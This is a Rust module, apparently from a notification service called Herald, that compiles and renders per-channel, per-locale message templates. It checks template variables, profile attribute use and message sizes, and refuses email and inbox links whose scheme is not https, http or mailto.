//! Templates: one document per notification type, with a part per channel and
//! per locale, rendered by minijinja (sandboxed, strict about unknown variables,
//! HTML-escaping in email HTML).
//!
//! What an email may carry, whatever the data: its subject is one line (line breaks become
//! a space, other control characters are dropped, after rendering), and every `href` of its
//! HTML is an https, http or mailto URL (or a `#fragment` of the email itself). A rendered
//! link with any other scheme (`javascript:`, `data:`, `vbscript:`, `file:`, an app's own),
//! or none (a relative or empty link), refuses the send with a render error naming the
//! link's scheme, not its value: a dead or hostile link is not sent, and the ledger says
//! why. (Neutralizing the link instead would send an email whose link silently goes
//! nowhere.) `check` reports a template whose literal hrefs already fail this.
//!
//! Besides the request's `data`, every part sees `recipient`: the person it is rendered
//! for, as `{ id, attributes, locale, timezone }` ([`RecipientView`]). Only the profile
//! attributes a template names (`recipient.attributes.first_name`) travel with its
//! dispatch job ([`ProfileUse`]); an attribute the person does not have is undefined, so
//! `{{ recipient.attributes.first_name | default("there") }}` is the way to use one (in a
//! condition too: `{% if recipient.attributes.beta | default(false) %}`).
//! `herald templates check` refuses an attribute that `profile.toml` does not declare.
//!
//! Templates live in the templates table as JSON documents (the repo keeps them
//! as TOML under `templates/`; `herald templates push` uploads them), so a team
//! changes one without rebuilding a function. Each document carries a `version`
//! that the ledger records with the message it rendered.

use crate::domain::{Channel, TemplateName};
use minijinja::value::Serde;
use minijinja::{Environment, UndefinedBehavior};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use std::collections::{BTreeMap, BTreeSet};

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TemplateDoc {
    pub name: TemplateName,
    #[serde(default = "first_version")]
    pub version: u32,
    /// The default channel order when a request names none.
    pub channels: Vec<Channel>,
    pub default_locale: String,
    /// Every variable the parts may use; anything else is an error at check time.
    #[serde(default)]
    pub variables: Vec<String>,
    /// Values used when the request's data lacks a variable.
    #[serde(default)]
    pub defaults: Map<String, Value>,
    /// Realistic data for `check`, which renders every part with it to measure sizes.
    #[serde(default, skip_serializing_if = "Map::is_empty")]
    pub example: Map<String, Value>,
    /// Sender settings for the email part; the deployment's sender when absent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub email: Option<EmailSettings>,
    /// A digest template: its messages carry `items` and `total` ([`DigestSettings`]).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub digest: Option<DigestSettings>,
    pub locales: BTreeMap<String, LocaleParts>,
}

/// `[digest]` in a template: its parts see `items` (the data of the window's first
/// `items` items, in arrival order) and `total` (how many items the window had).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DigestSettings {
    /// How many items' data the message carries: 1 to 50.
    #[serde(default = "default_digest_items")]
    pub items: usize,
    /// Realistic items for `check`, which renders every part with them.
    #[serde(default)]
    pub example_items: Vec<Map<String, Value>>,
}

fn default_digest_items() -> usize {
    crate::domain::digest::DEFAULT_TEMPLATE_ITEMS
}

/// What a digest template sees besides the template's own variables.
pub const DIGEST_VARS: [&str; 2] = ["items", "total"];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EmailSettings {
    /// A From address on the deployment's verified SES identity, e.g. `"Shop <orders@shop.example>"`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub from: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reply_to: Option<String>,
}

/// Limits a template must fit, checked by [`CompiledTemplate::check_limits`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// SMS segments a message may cost (each is billed as one SMS).
    pub max_sms_segments: usize,
    /// APNs and FCM both refuse payloads above 4 KB.
    pub max_push_bytes: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Self { max_sms_segments: 3, max_push_bytes: crate::domain::push::MAX_PAYLOAD_BYTES }
    }
}

fn first_version() -> u32 {
    1
}

#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LocaleParts {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub push: Option<PushPart>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub email: Option<EmailPart>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sms: Option<SmsPart>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub inbox: Option<InboxPart>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PushPart {
    pub title: String,
    pub body: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub deep_link: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EmailPart {
    pub subject: String,
    pub html: String,
    pub text: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SmsPart {
    pub text: String,
}

/// The in-app inbox part: what the team's app lists and shows. `data` is a table of
/// templated strings the app receives as it is (a badge, an image, a category).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct InboxPart {
    pub title: String,
    pub body: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub action_url: Option<String>,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub data: BTreeMap<String, String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PushContent {
    pub title: String,
    pub body: String,
    pub deep_link: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EmailContent {
    pub subject: String,
    pub html: String,
    pub text: String,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SmsContent {
    pub text: String,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InboxContent {
    pub title: String,
    pub body: String,
    pub action_url: Option<String>,
    pub data: BTreeMap<String, String>,
}

/// The largest rendered inbox message stored (title, body, action URL and data): a message
/// is one item, written for one write unit per KiB.
pub const MAX_INBOX_CONTENT_BYTES: usize = 16 * 1024;

impl InboxContent {
    /// Its size as [`MAX_INBOX_CONTENT_BYTES`] counts it.
    pub fn stored_bytes(&self) -> usize {
        self.title.len()
            + self.body.len()
            + self.action_url.as_ref().map_or(0, String::len)
            + self.data.iter().map(|(k, v)| k.len() + v.len()).sum::<usize>()
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TemplateError {
    #[error("template {template} has no {channel} part for locale {locale}")]
    MissingPart { template: String, channel: Channel, locale: String },
    #[error("template {template} does not compile: {detail}")]
    Syntax { template: String, detail: String },
    #[error("template {template} failed to render: {detail}")]
    Render { template: String, detail: String },
}

/// What a template sees of the person, as `recipient`. Absent values are undefined in
/// the template (not `none`), so `default(...)` applies to them.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct RecipientView {
    pub id: String,
    pub attributes: Map<String, Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub locale: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub timezone: Option<String>,
}

/// The name templates see the person by.
pub const RECIPIENT_VAR: &str = "recipient";
/// The link to the person's preference center, which an email part may place itself (set
/// by email dispatch when the stack serves the page; a marketing email whose part does not
/// use it gets a footer with it).
pub const PREFERENCES_URL_VAR: &str = "preferences_url";
/// What `recipient` holds.
const RECIPIENT_FIELDS: [&str; 4] = ["id", "attributes", "locale", "timezone"];

/// Which profile attributes a template's parts use, so that only those travel in its jobs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProfileUse {
    /// Each `recipient.attributes.<name>` named.
    pub attributes: BTreeSet<String>,
    /// `recipient` or `recipient.attributes` used as a whole (iterated, indexed by a
    /// variable, printed): every attribute is needed. `herald templates check` refuses it.
    pub all_attributes: bool,
}

impl ProfileUse {
    fn add(&mut self, reference: &str) {
        let mut path = reference.split('.');
        if path.next() != Some(RECIPIENT_VAR) {
            return;
        }
        match (path.next(), path.next()) {
            (None, _) | (Some("attributes"), None) => self.all_attributes = true,
            (Some("attributes"), Some(name)) => {
                self.attributes.insert(name.to_owned());
            }
            _ => {}
        }
    }

    /// Of `attributes`, those the template uses.
    pub fn pick(&self, attributes: &Map<String, Value>) -> Map<String, Value> {
        if self.all_attributes {
            return attributes.clone();
        }
        attributes.iter().filter(|(k, _)| self.attributes.contains(*k)).map(|(k, v)| (k.clone(), v.clone())).collect()
    }
}

/// What a part refers to beyond plain variables: `recipient...` paths (minijinja's nested
/// undeclared variables).
fn recipient_refs(tmpl: &minijinja::Template<'_, '_>) -> Vec<String> {
    let mut refs: Vec<String> = tmpl
        .undeclared_variables(true)
        .into_iter()
        .filter(|v| v == RECIPIENT_VAR || v.starts_with("recipient."))
        .collect();
    refs.sort();
    refs
}

/// A template compiled once and rendered many times (kept in the function's cache).
#[derive(Debug)]
pub struct CompiledTemplate {
    pub doc: TemplateDoc,
    env: Environment<'static>,
    profile: ProfileUse,
}

/// The part name of one entry of an inbox part's `data`.
fn inbox_data_part(key: &str) -> String {
    format!("data.{key}")
}

fn part_name(locale: &str, channel: Channel, part: &str) -> String {
    // The `.html` suffix turns on minijinja's HTML auto-escaping for that part only.
    let ext = if part == "html" { "html" } else { "txt" };
    format!("{locale}/{channel}/{part}.{ext}")
}

impl LocaleParts {
    fn sources(&self) -> Vec<(Channel, String, &str)> {
        let mut out = Vec::new();
        if let Some(p) = &self.push {
            out.push((Channel::Push, "title".to_owned(), p.title.as_str()));
            out.push((Channel::Push, "body".to_owned(), p.body.as_str()));
            if let Some(link) = &p.deep_link {
                out.push((Channel::Push, "deep_link".to_owned(), link.as_str()));
            }
        }
        if let Some(e) = &self.email {
            out.push((Channel::Email, "subject".to_owned(), e.subject.as_str()));
            out.push((Channel::Email, "html".to_owned(), e.html.as_str()));
            out.push((Channel::Email, "text".to_owned(), e.text.as_str()));
        }
        if let Some(s) = &self.sms {
            out.push((Channel::Sms, "text".to_owned(), s.text.as_str()));
        }
        if let Some(i) = &self.inbox {
            out.push((Channel::Inbox, "title".to_owned(), i.title.as_str()));
            out.push((Channel::Inbox, "body".to_owned(), i.body.as_str()));
            if let Some(url) = &i.action_url {
                out.push((Channel::Inbox, "action_url".to_owned(), url.as_str()));
            }
            for (key, value) in &i.data {
                out.push((Channel::Inbox, inbox_data_part(key), value.as_str()));
            }
        }
        out
    }

    fn has(&self, channel: Channel) -> bool {
        match channel {
            Channel::Push => self.push.is_some(),
            Channel::Email => self.email.is_some(),
            Channel::Sms => self.sms.is_some(),
            Channel::Inbox => self.inbox.is_some(),
        }
    }
}

impl CompiledTemplate {
    pub fn compile(doc: TemplateDoc) -> Result<Self, TemplateError> {
        let mut env = Environment::new();
        env.set_undefined_behavior(UndefinedBehavior::Strict);
        for (locale, parts) in &doc.locales {
            for (channel, part, source) in parts.sources() {
                env.add_template_owned(part_name(locale, channel, &part), source.to_owned())
                    .map_err(|e| TemplateError::Syntax { template: doc.name.to_string(), detail: e.to_string() })?;
            }
        }
        let mut profile = ProfileUse::default();
        for (locale, parts) in &doc.locales {
            for (channel, part, _) in parts.sources() {
                if let Ok(tmpl) = env.get_template(&part_name(locale, channel, &part)) {
                    recipient_refs(&tmpl).iter().for_each(|r| profile.add(r));
                }
            }
        }
        Ok(Self { doc, env, profile })
    }

    /// How many items' data a digest message of this template carries (`[digest] items`).
    pub fn digest_items(&self) -> usize {
        self.doc
            .digest
            .as_ref()
            .map_or(crate::domain::digest::DEFAULT_TEMPLATE_ITEMS, |d| d.items)
            .clamp(1, crate::domain::digest::MAX_FIRST)
    }

    /// The profile attributes its parts use.
    pub fn profile_use(&self) -> &ProfileUse {
        &self.profile
    }

    pub fn name(&self) -> &TemplateName {
        &self.doc.name
    }

    /// The locale to render in: the exact tag, then its language, then the template's default.
    pub fn locale_for<'a>(&'a self, wanted: Option<&'a str>) -> &'a str {
        let candidates = wanted.into_iter().flat_map(|w| [w, w.split('-').next().unwrap_or(w)]);
        for c in candidates {
            if self.doc.locales.contains_key(c) {
                return c;
            }
        }
        &self.doc.default_locale
    }

    fn render_part(
        &self,
        locale: &str,
        channel: Channel,
        part: &str,
        ctx: &minijinja::Value,
    ) -> Result<String, TemplateError> {
        let name = part_name(locale, channel, part);
        let render_err = |e: minijinja::Error| TemplateError::Render {
            template: self.doc.name.to_string(),
            detail: format!("{name}: {e}"),
        };
        self.env.get_template(&name).map_err(render_err)?.render(ctx).map_err(render_err)
    }

    /// The template's defaults, the request's data over them, and `recipient` over both
    /// (Herald's name: a `recipient` in the data does not reach the template).
    fn context(&self, data: &Map<String, Value>, recipient: &RecipientView) -> minijinja::Value {
        let mut merged = self.doc.defaults.clone();
        merged.extend(data.iter().map(|(k, v)| (k.clone(), v.clone())));
        let person = serde_json::to_value(recipient).unwrap_or_default();
        merged.insert(RECIPIENT_VAR.to_owned(), person);
        minijinja::Value::from(Serde(merged))
    }

    /// The recipient's locale if it has this channel's part, else the default locale's.
    fn parts_for(&self, channel: Channel, locale: Option<&str>) -> Result<(&str, &LocaleParts), TemplateError> {
        let wanted = self.locale_for(locale).to_owned();
        [wanted.as_str(), self.doc.default_locale.as_str()]
            .into_iter()
            .find_map(|l| self.doc.locales.get_key_value(l).filter(|(_, p)| p.has(channel)))
            .map(|(l, p)| (l.as_str(), p))
            .ok_or_else(|| TemplateError::MissingPart {
                template: self.doc.name.to_string(),
                channel,
                locale: wanted.clone(),
            })
    }

    pub fn render_push(
        &self,
        locale: Option<&str>,
        data: &Map<String, Value>,
        recipient: &RecipientView,
    ) -> Result<PushContent, TemplateError> {
        let (locale, parts) = self.parts_for(Channel::Push, locale)?;
        let ctx = self.context(data, recipient);
        let has_link = parts.push.as_ref().is_some_and(|p| p.deep_link.is_some());
        Ok(PushContent {
            title: self.render_part(locale, Channel::Push, "title", &ctx)?,
            body: self.render_part(locale, Channel::Push, "body", &ctx)?,
            deep_link: has_link.then(|| self.render_part(locale, Channel::Push, "deep_link", &ctx)).transpose()?,
        })
    }

    /// The email part, its subject made one line and every link of its HTML checked (see the
    /// module's documentation): a link that is not https, http, mailto or a fragment is a
    /// [`TemplateError::Render`].
    pub fn render_email(
        &self,
        locale: Option<&str>,
        data: &Map<String, Value>,
        recipient: &RecipientView,
    ) -> Result<EmailContent, TemplateError> {
        let (locale, _) = self.parts_for(Channel::Email, locale)?;
        let ctx = self.context(data, recipient);
        let html = self.render_part(locale, Channel::Email, "html", &ctx)?;
        for (n, href) in hrefs(&html).into_iter().enumerate() {
            if let LinkVerdict::Refused(why) = link_verdict(href, true) {
                return Err(TemplateError::Render {
                    template: self.doc.name.to_string(),
                    detail: format!("{}: link {} {why}", part_name(locale, Channel::Email, "html"), n + 1),
                });
            }
        }
        Ok(EmailContent {
            subject: one_line(&self.render_part(locale, Channel::Email, "subject", &ctx)?),
            html,
            text: self.render_part(locale, Channel::Email, "text", &ctx)?,
        })
    }

    /// The locale the email part is rendered in for a person of `locale` (none without an email part).
    pub fn email_locale(&self, locale: Option<&str>) -> Option<&str> {
        self.parts_for(Channel::Email, locale).ok().map(|(l, _)| l)
    }

    /// Whether the email part rendered for `locale` uses `var` in its HTML and in its text.
    pub fn email_uses(&self, locale: Option<&str>, var: &str) -> (bool, bool) {
        let Some(locale) = self.email_locale(locale) else { return (false, false) };
        let uses = |part: &str| {
            self.env
                .get_template(&part_name(locale, Channel::Email, part))
                .is_ok_and(|t| t.undeclared_variables(false).contains(var))
        };
        (uses("html"), uses("text"))
    }

    pub fn render_sms(
        &self,
        locale: Option<&str>,
        data: &Map<String, Value>,
        recipient: &RecipientView,
    ) -> Result<SmsContent, TemplateError> {
        let (locale, _) = self.parts_for(Channel::Sms, locale)?;
        let ctx = self.context(data, recipient);
        Ok(SmsContent { text: self.render_part(locale, Channel::Sms, "text", &ctx)? })
    }

    /// The inbox part. Its `action_url` is checked as an email link is (https, http,
    /// mailto or a fragment), since the app opens it.
    pub fn render_inbox(
        &self,
        locale: Option<&str>,
        data: &Map<String, Value>,
        recipient: &RecipientView,
    ) -> Result<InboxContent, TemplateError> {
        let (locale, parts) = self.parts_for(Channel::Inbox, locale)?;
        let Some(part) = parts.inbox.as_ref() else {
            return Err(TemplateError::MissingPart {
                template: self.doc.name.to_string(),
                channel: Channel::Inbox,
                locale: locale.to_owned(),
            });
        };
        let ctx = self.context(data, recipient);
        let action_url = match &part.action_url {
            None => None,
            Some(_) => {
                let url = self.render_part(locale, Channel::Inbox, "action_url", &ctx)?;
                if let LinkVerdict::Refused(why) = link_verdict(&url, true) {
                    return Err(TemplateError::Render {
                        template: self.doc.name.to_string(),
                        detail: format!("{}: the action URL {why}", part_name(locale, Channel::Inbox, "action_url")),
                    });
                }
                Some(url)
            }
        };
        let mut rendered = BTreeMap::new();
        for key in part.data.keys() {
            rendered.insert(key.clone(), self.render_part(locale, Channel::Inbox, &inbox_data_part(key), &ctx)?);
        }
        Ok(InboxContent {
            title: one_line(&self.render_part(locale, Channel::Inbox, "title", &ctx)?),
            body: self.render_part(locale, Channel::Inbox, "body", &ctx)?,
            action_url,
            data: rendered,
        })
    }

    /// Problems of size with realistic data (`example`, then `defaults`, then a
    /// ten-character stand-in): push payloads over the platform limit on APNs or
    /// FCM, SMS over the segment budget.
    pub fn check_limits(&self, limits: &Limits) -> Vec<String> {
        let mut data = self.doc.example.clone();
        if let Some(digest) = &self.doc.digest {
            let items: Vec<Value> =
                digest.example_items.iter().take(self.digest_items()).cloned().map(Value::Object).collect();
            data.insert("total".to_owned(), digest.example_items.len().into());
            data.insert("items".to_owned(), Value::Array(items));
        }
        for v in &self.doc.variables {
            if !data.contains_key(v) && !self.doc.defaults.contains_key(v) {
                data.insert(v.clone(), Value::String("X".repeat(10)));
            }
        }
        let mut problems = Vec::new();
        let id = crate::domain::MessageId::parse("0123456789abcdef0123456789abcdef");
        for locale in self.doc.locales.keys() {
            // The person: each attribute the template names, as a ten-character stand-in.
            let recipient = RecipientView {
                id: "X".repeat(10),
                attributes: self
                    .profile
                    .attributes
                    .iter()
                    .map(|a| (a.clone(), Value::String("X".repeat(10))))
                    .collect(),
                locale: Some(locale.clone()),
                timezone: Some("Europe/Paris".into()),
            };
            if self.doc.locales.get(locale).is_some_and(|p| p.push.is_some()) {
                match self.render_push(Some(locale), &data, &recipient) {
                    Ok(content) => {
                        for platform in [crate::domain::Platform::Apns, crate::domain::Platform::Fcm] {
                            let size =
                                id.as_ref().map_or(0, |id| crate::domain::push::payload_bytes(platform, &content, id));
                            if size > limits.max_push_bytes {
                                problems.push(format!(
                                    "{locale}/push is {size} bytes on {}, over the {} byte limit",
                                    platform.as_str(),
                                    limits.max_push_bytes
                                ));
                            }
                        }
                    }
                    Err(e) => problems.push(e.to_string()),
                }
            }
            if self.doc.locales.get(locale).is_some_and(|p| p.sms.is_some()) {
                match self.render_sms(Some(locale), &data, &recipient) {
                    Ok(content) => {
                        let seg = crate::domain::sms::segments(&content.text);
                        if seg.count > limits.max_sms_segments {
                            problems.push(format!(
                                "{locale}/sms takes {} segments ({:?}, {} units), over the budget of {}",
                                seg.count, seg.encoding, seg.units, limits.max_sms_segments
                            ));
                        }
                    }
                    Err(e) => problems.push(e.to_string()),
                }
            }
        }
        problems
    }

    /// Problems a template has before any message uses it: variables it uses but
    /// does not declare, channels in its order with no part in the default
    /// locale, a default locale with no parts, email links whose literal start
    /// already makes them refused (`href="javascript:..."`, `href="ftp://{{ host }}"`,
    /// a relative link).
    pub fn check(&self) -> Vec<String> {
        let mut problems = Vec::new();
        let declared: BTreeSet<&str> = self.doc.variables.iter().map(String::as_str).collect();
        if declared.contains(RECIPIENT_VAR) {
            problems.push(format!(
                "variables: {RECIPIENT_VAR} is Herald's own (the person rendered for, with their profile): \
                 name the data otherwise"
            ));
        }
        if declared.contains(PREFERENCES_URL_VAR) {
            problems.push(format!(
                "variables: {PREFERENCES_URL_VAR} is Herald's own (the link to the person's preference center): \
                 name the data otherwise"
            ));
        }
        let mut herald_vars = vec![RECIPIENT_VAR, PREFERENCES_URL_VAR];
        if let Some(digest) = &self.doc.digest {
            herald_vars.extend(DIGEST_VARS);
            if !(1..=crate::domain::digest::MAX_FIRST).contains(&digest.items) {
                problems.push(format!("[digest] items is {}, it must be from 1 to 50", digest.items));
            }
            if digest.example_items.is_empty() {
                problems.push(
                    "[digest] example_items: a digest template needs example items, which check renders it with"
                        .to_owned(),
                );
            }
            for v in DIGEST_VARS.iter().filter(|v| declared.contains(**v)) {
                problems.push(format!("variables: {v} is Herald's own in a digest template: name the data otherwise"));
            }
        }
        let Some(default_parts) = self.doc.locales.get(&self.doc.default_locale) else {
            problems.push(format!("default locale {} has no parts", self.doc.default_locale));
            return problems;
        };
        for channel in &self.doc.channels {
            if !default_parts.has(*channel) {
                problems
                    .push(format!("channel {channel} is in the order but has no part in {}", self.doc.default_locale));
            }
        }
        for (locale, parts) in &self.doc.locales {
            for (channel, part, _) in parts.sources() {
                let name = part_name(locale, channel, &part);
                let Ok(tmpl) = self.env.get_template(&name) else { continue };
                let mut unknown: Vec<String> = tmpl
                    .undeclared_variables(false)
                    .into_iter()
                    .filter(|v| !herald_vars.contains(&v.as_str()) && !declared.contains(v.as_str()))
                    .collect();
                unknown.sort();
                if !unknown.is_empty() {
                    problems.push(format!("{name} uses undeclared variables: {}", unknown.join(", ")));
                }
                for r in recipient_refs(&tmpl) {
                    let field = r.split('.').nth(1);
                    if field.is_some_and(|f| !RECIPIENT_FIELDS.contains(&f)) {
                        problems.push(format!("{name} uses {r}: recipient has {}", RECIPIENT_FIELDS.join(", ")));
                    }
                }
            }
            if let Some(email) = &parts.email {
                for (n, href) in hrefs(&email.html).into_iter().enumerate() {
                    // What precedes the first template tag is what every rendering starts with.
                    let literal = ["{{", "{%", "{#"].iter().filter_map(|tag| href.find(tag)).min();
                    let prefix = literal.and_then(|end| href.get(..end)).unwrap_or(href);
                    if let LinkVerdict::Refused(why) = link_verdict(prefix, literal.is_none()) {
                        let name = part_name(locale, Channel::Email, "html");
                        problems.push(format!("{name}: link {} {why}", n + 1));
                    }
                }
            }
        }
        problems
    }

    /// Problems with the profile a template uses, against the team's declared attributes:
    /// an attribute `profile.toml` does not declare, or `recipient.attributes` used whole
    /// (which cannot be checked, and would carry every attribute in each job).
    pub fn check_profile(&self, schema: &crate::domain::profile::ProfileSchema) -> Vec<String> {
        let mut problems = Vec::new();
        for (locale, parts) in &self.doc.locales {
            for (channel, part, _) in parts.sources() {
                let name = part_name(locale, channel, &part);
                let Ok(tmpl) = self.env.get_template(&name) else { continue };
                let mut used = ProfileUse::default();
                recipient_refs(&tmpl).iter().for_each(|r| used.add(r));
                if used.all_attributes {
                    problems.push(format!(
                        "{name} uses recipient.attributes as a whole: name each attribute it needs \
                         (recipient.attributes.<name>)"
                    ));
                }
                for a in used.attributes.iter().filter(|a| schema.get(a).is_none()) {
                    problems.push(format!("{name} uses recipient.attributes.{a}, which profile.toml does not declare"));
                }
            }
        }
        problems
    }
}

/// An email subject on one line: each run of line breaks (CR, LF, and the other vertical
/// separators) and tabs becomes one space (none beside a space already there), other control
/// characters are dropped, and the ends are trimmed. A subject is a header: a line break in it could start another header.
pub fn one_line(subject: &str) -> String {
    let mut out = String::with_capacity(subject.len());
    let mut gap = false;
    for c in subject.chars() {
        if matches!(c, '\r' | '\n' | '\t' | '\u{0B}' | '\u{0C}' | '\u{85}' | '\u{2028}' | '\u{2029}') {
            gap = true;
        } else if !c.is_control() {
            if gap && !out.is_empty() && !out.ends_with(' ') && c != ' ' {
                out.push(' ');
            }
            gap = false;
            out.push(c);
        }
    }
    out.trim().to_owned()
}

/// The schemes an email link may have.
const LINK_SCHEMES: [&str; 3] = ["https", "http", "mailto"];

#[derive(Debug, Clone, PartialEq, Eq)]
enum LinkVerdict {
    Allowed,
    /// Why, in words that name the scheme but never the link itself (it may hold personal data).
    Refused(String),
    /// Only part of the link is known (template tags follow) and that part does not decide.
    Undecided,
}

/// Whether an `href` value (as written in the HTML, entities and all) may be sent. `complete`:
/// the whole value; otherwise only its start is known. The value is read as a browser reads
/// it: character references decoded, ASCII tabs and newlines removed anywhere, leading
/// control characters and spaces dropped; then its scheme, if any, is compared without case.
fn link_verdict(raw: &str, complete: bool) -> LinkVerdict {
    let decoded = decode_references(raw);
    let url: String =
        decoded.trim_start_matches(|c: char| c <= ' ').chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    if url.starts_with('#') {
        return LinkVerdict::Allowed;
    }
    let relative = "is not an absolute https, http or mailto URL".to_owned();
    match url.find([':', '/', '?', '#']) {
        Some(end) if url.get(end..end + 1) == Some(":") => {
            let scheme = url.get(..end).unwrap_or_default();
            if !is_scheme(scheme) {
                LinkVerdict::Refused(relative)
            } else if LINK_SCHEMES.iter().any(|s| s.eq_ignore_ascii_case(scheme)) {
                LinkVerdict::Allowed
            } else {
                LinkVerdict::Refused(format!("has scheme {}, not https, http or mailto", scheme.to_ascii_lowercase()))
            }
        }
        Some(_) => LinkVerdict::Refused(relative),
        None if !complete && (url.is_empty() || is_scheme(&url)) => LinkVerdict::Undecided,
        None => LinkVerdict::Refused(relative),
    }
}

/// RFC 3986: `ALPHA *( ALPHA / DIGIT / "+" / "-" / "." )`.
fn is_scheme(s: &str) -> bool {
    let mut chars = s.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
}

/// Decodes HTML character references: numeric ones (`&#106;`, `&#x6A;`, the `;` optional as
/// browsers allow) and the named ones that can shape a URL's scheme or separators. Others
/// are left as they are.
fn decode_references(s: &str) -> String {
    const NAMED: [(&str, char); 11] = [
        ("amp;", '&'),
        ("lt;", '<'),
        ("gt;", '>'),
        ("quot;", '"'),
        ("apos;", '\''),
        ("colon;", ':'),
        ("sol;", '/'),
        ("quest;", '?'),
        ("num;", '#'),
        ("Tab;", '\t'),
        ("NewLine;", '\n'),
    ];
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find('&') {
        out.push_str(rest.get(..at).unwrap_or_default());
        let after = rest.get(at + 1..).unwrap_or_default();
        if let Some(numeric) = after.strip_prefix('#') {
            let (body, radix, skip) = match numeric.strip_prefix(['x', 'X']) {
                Some(hex) => (hex, 16, 2),
                None => (numeric, 10, 1),
            };
            let len = body.find(|c: char| !c.is_digit(radix)).unwrap_or(body.len());
            let digits = body.get(..len).unwrap_or_default();
            if !digits.is_empty() {
                let code = u32::from_str_radix(digits, radix).ok();
                out.push(code.and_then(char::from_u32).filter(|c| *c != '\0').unwrap_or('\u{FFFD}'));
                let used = skip + digits.len();
                rest = after.get(used..).unwrap_or_default();
                rest = rest.strip_prefix(';').unwrap_or(rest);
                continue;
            }
        } else if let Some((name, c)) = NAMED.iter().find(|(name, _)| after.starts_with(name)) {
            out.push(*c);
            rest = after.get(name.len()..).unwrap_or_default();
            continue;
        }
        out.push('&');
        rest = after;
    }
    out.push_str(rest);
    out
}

/// The `href` attribute values of the start tags of an HTML document, as written (quotes
/// removed, references not decoded). A small tokenizer, enough for email HTML: comments are
/// skipped, attribute names compared without case, values quoted with `"` or `'` or bare.
fn hrefs(html: &str) -> Vec<&str> {
    let bytes = html.as_bytes();
    let at = |i: usize| bytes.get(i).copied();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(lt) = html.get(i..).and_then(|r| r.find('<')).map(|o| i + o) {
        i = lt + 1;
        if html.get(i..).is_some_and(|r| r.starts_with("!--")) {
            i = html.get(i + 3..).and_then(|r| r.find("-->")).map_or(bytes.len(), |o| i + 3 + o + 3);
            continue;
        }
        if !at(i).is_some_and(|b| b.is_ascii_alphabetic()) {
            continue;
        }
        // The tag name, then attributes up to '>'.
        while at(i).is_some_and(|b| !b.is_ascii_whitespace() && b != b'/' && b != b'>') {
            i += 1;
        }
        loop {
            while at(i).is_some_and(|b| b.is_ascii_whitespace() || b == b'/') {
                i += 1;
            }
            match at(i) {
                None => return out,
                Some(b'>') => break,
                Some(_) => {}
            }
            let name_start = i;
            i += 1; // a name may start with '='
            while at(i).is_some_and(|b| !b.is_ascii_whitespace() && !matches!(b, b'/' | b'>' | b'=')) {
                i += 1;
            }
            let name = html.get(name_start..i).unwrap_or_default();
            while at(i).is_some_and(|b| b.is_ascii_whitespace()) {
                i += 1;
            }
            if at(i) != Some(b'=') {
                continue;
            }
            i += 1;
            while at(i).is_some_and(|b| b.is_ascii_whitespace()) {
                i += 1;
            }
            let value = match at(i) {
                Some(quote @ (b'"' | b'\'')) => {
                    let start = i + 1;
                    let end = html.get(start..).and_then(|r| r.find(quote as char)).map_or(bytes.len(), |o| start + o);
                    i = end + 1;
                    html.get(start..end).unwrap_or_default()
                }
                _ => {
                    let start = i;
                    while at(i).is_some_and(|b| !b.is_ascii_whitespace() && b != b'>') {
                        i += 1;
                    }
                    html.get(start..i).unwrap_or_default()
                }
            };
            if name.eq_ignore_ascii_case("href") {
                out.push(value);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc() -> TemplateDoc {
        serde_json::from_value(serde_json::json!({
            "name": "order_shipped",
            "version": 3,
            "channels": ["push", "email", "sms"],
            "default_locale": "en",
            "variables": ["order_id", "eta"],
            "defaults": {"eta": "soon"},
            "locales": {
                "en": {
                    "push": {"title": "Shipped", "body": "Order {{ order_id }} arrives {{ eta }}."},
                    "email": {"subject": "Order {{ order_id }}", "html": "<p>Order {{ order_id }}</p>", "text": "Order {{ order_id }}"},
                    "sms": {"text": "Order {{ order_id }} arrives {{ eta }}."}
                },
                "fr": {
                    "sms": {"text": "Commande {{ order_id }} : livraison {{ eta }}."}
                }
            }
        }))
        .unwrap()
    }

